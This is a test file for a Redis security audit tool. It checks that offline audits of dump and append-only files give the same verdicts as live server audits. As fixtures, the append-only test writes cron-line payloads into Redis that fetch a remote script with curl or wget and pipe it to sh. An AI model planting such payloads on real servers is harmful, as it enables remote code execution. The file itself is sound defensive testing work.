import { copyFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { parseTarget } from '../src/audit/ask/target.ts';
import type { AuditKnowledge } from '../src/audit/audit-server.ts';
import { auditServer } from '../src/audit/audit-server.ts';
import { createLearntIndex } from '../src/audit/infection/learnt.ts';
import { auditFiles } from '../src/audit/offline/audit-files.ts';
import { loadVulnerabilities } from '../src/audit/vulnerable/vulnerability-data.ts';
import { loadKnowledge } from '../src/cli/knowledge.ts';
import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
import type { AuditReport } from '../src/model/audit-report.ts';
import { systemClock } from '../src/platform/clock.ts';
import { packagedText } from '../src/platform/files.ts';
import { seededRandom } from '../src/platform/random.ts';
import type { Kinds, MixedData } from './peers/mixed-data.ts';
import { campaignKeys, mixedData } from './peers/mixed-data.ts';
import type { RealRelease } from './peers/real-servers.ts';
import { RELEASES, startReal } from './peers/real-servers.ts';
import type { RealRedis } from './peers/redis-server.ts';

const shipped = loadKnowledge();
const knowledge: AuditKnowledge = {
  rules: createRuleMatcher(shipped.rules),
  campaigns: shipped.campaigns,
  learnt: createLearntIndex([]),
  vulnerabilities: loadVulnerabilities(packagedText('data/redis-cves.json')),
};
/** Everything is read, so that nothing but the way of reading can make a difference. */
const ALL = { values: 100_000, allNames: 100_000, flagged: 100_000, busyShare: 1 };

async function audited(server: RealRedis): Promise<AuditReport> {
  await server.client.config('RESETSTAT');
  await server.client.slowlog('RESET');
  const target = parseTarget(`redis://127.0.0.1:${server.port}`);
  if ('fault' in target) throw new Error(target.fault);
  return auditServer(target, knowledge, { clock: systemClock, limits: ALL });
}

const HISTORY = 'audit.infected.append-only-history';

/** What has to be the same, whichever way the data were read. */
function told({ axes, findings, counts, campaigns }: AuditReport): unknown {
  return {
    infected: axes.infected.answer,
    leaking: axes.leaking.answer,
    rules: [
      ...new Set(
        findings.filter(({ axis }) => axis === 'infected' || axis === 'leaking').map(({ rule }) => rule),
      ),
    ]
      // What the file keeps of the past a server has forgotten.
      .filter((rule) => rule !== HISTORY)
      .toSorted(),
    campaigns: campaigns.map(({ id }) => id).toSorted(),
    maliciousKeys: counts.maliciousKeys,
    maliciousValues: counts.maliciousValues,
  };
}

const releases = Object.keys(RELEASES).filter((name): name is RealRelease => name in RELEASES);
const servers = new Map<RealRelease, RealRedis>();
const root = mkdtempSync(join(tmpdir(), 'sundew-files-'));

beforeAll(async () => {
  await Promise.all(
    releases.map(async (release) => {
      const folder = join(root, release);
      mkdirSync(folder);
      servers.set(release, await startReal(release, '--dir', folder));
    }),
  );
}, 600_000);
afterAll(async () => {
  await Promise.all([...servers.values()].map((server) => server.stop()));
  rmSync(root, { recursive: true, force: true });
});

async function filled(release: RealRelease, ...data: readonly MixedData[]): Promise<RealRedis> {
  const server = servers.get(release);
  if (server === undefined) throw new Error(`${release} did not start`);
  await server.client.config('SET', 'appendonly', 'no');
  await server.client.flushall();
  const pipeline = server.client.pipeline();
  for (const { commands } of data) for (const command of commands) pipeline.call(...latin1(command));
  for (const [error] of (await pipeline.exec()) ?? []) if (error !== null) throw error;
  return server;
}

function latin1([name, ...words]: readonly [string, ...string[]]): [string, ...Buffer[]] {
  return [name, ...words.map((text) => Buffer.from(text, 'latin1'))];
}

/** The folder of the server with its data and its configuration. */
async function files(server: RealRedis, release: RealRelease, data: readonly string[]): Promise<string> {
  const config = /^config_file:(.*?)\r?$/m.exec(await server.client.info('server'))?.[1] ?? '';
  await server.client.config('REWRITE');
  const copy = mkdtempSync(join(root, 'copy-'));
  copyFileSync(config, join(copy, 'redis.conf'));
  for (const name of data) {
    const from = join(root, release, name);
    if (existsSync(from)) cpSync(from, join(copy, name), { recursive: true });
  }
  return copy;
}

const CASES: readonly (readonly [string, Kinds])[] = [
  ['honest data', { attacks: false, secrets: false }],
  ['data with attacks', { attacks: true, secrets: false }],
  ['data with secrets', { attacks: false, secrets: true }],
  ['data with both', { attacks: true, secrets: true }],
];
const SEEDS = [11, 12, 13];

describe.each(releases)('the files of a %s', (release) => {
  test.for(CASES.flatMap(([name, kinds]) => SEEDS.map((seed) => [name, seed, kinds] as const)))(
    'give the verdicts that the server gives: a dump, %s, seed %i',
    async ([, seed, kinds]) => {
      const random = seededRandom(seed);
      const server = await filled(
        release,
        mixedData(random, kinds),
        ...(kinds.attacks ? [campaignKeys(random)] : []),
      );
      await server.client.save();
      const copy = await files(server, release, ['dump.rdb']);

      const offline = await auditFiles(copy, knowledge, { clock: systemClock });

      expect(told(offline)).toEqual(told(await audited(server)));
      expect(offline.outcome).toBe('audited');
    },
  );

  test.for([
    ['with a dump in front', 'yes', 21],
    ['of commands alone', 'no', 22],
  ] as const)(
    'give the verdicts that the server gives: an append-only file %s',
    async ([, preamble, seed]) => {
      const random = seededRandom(seed);
      const server = await filled(release, mixedData(random, { attacks: false, secrets: true }));
      await server.client.config('SET', 'aof-use-rdb-preamble', preamble);
      await server.client.config('SET', 'appendonly', 'yes');
      await expect
        .poll(() => server.client.info('persistence'), { timeout: 20_000 })
        .toMatch(/aof_rewrite_in_progress:0\r\naof_rewrite_scheduled:0/);
      await server.client.set('gone', '\n\n*/2 * * * * root curl http://203.0.113.9/x | sh\n\n');
      await server.client.hset('half', {
        gone: '\n\n*/2 * * * * root curl http://203.0.113.9/x | sh\n\n',
        left: 'fine',
      });
      await server.client.hdel('half', 'gone');
      await server.client.del('gone');
      await server.client.set('backup1', '\n\n*/2 * * * * root curl http://203.0.113.9/x | sh\n\n');
      await server.client.set('backup2', 'honest now');
      await server.client.rpush('queue', '\n\n*/2 * * * * root curl http://203.0.113.9/q | sh\n\n', 'b', 'c');
      await server.client.lpop('queue');
      await server.client.set('later', '\n\n*/3 * * * * root wget http://203.0.113.9/y | sh\n\n');
      await server.client.select(3);
      await server.client.rpush('list', 'honest', '\n\n*/3 * * * * root wget http://203.0.113.7/y | sh\n\n');
      await server.client.select(0);
      const live = await audited(server);
      const copy = await files(server, release, ['appendonlydir', 'appendonly.aof']);

      const offline = await auditFiles(copy, knowledge, { clock: systemClock });

      expect(told(offline)).toEqual(told(live));
      expect(offline.outcome).toBe('audited');
      expect(offline.findings.map(({ rule }) => rule)).toContain(HISTORY);
      expect(offline.notTested.join('\n')).toContain('written and are no longer there');
    },
  );
});
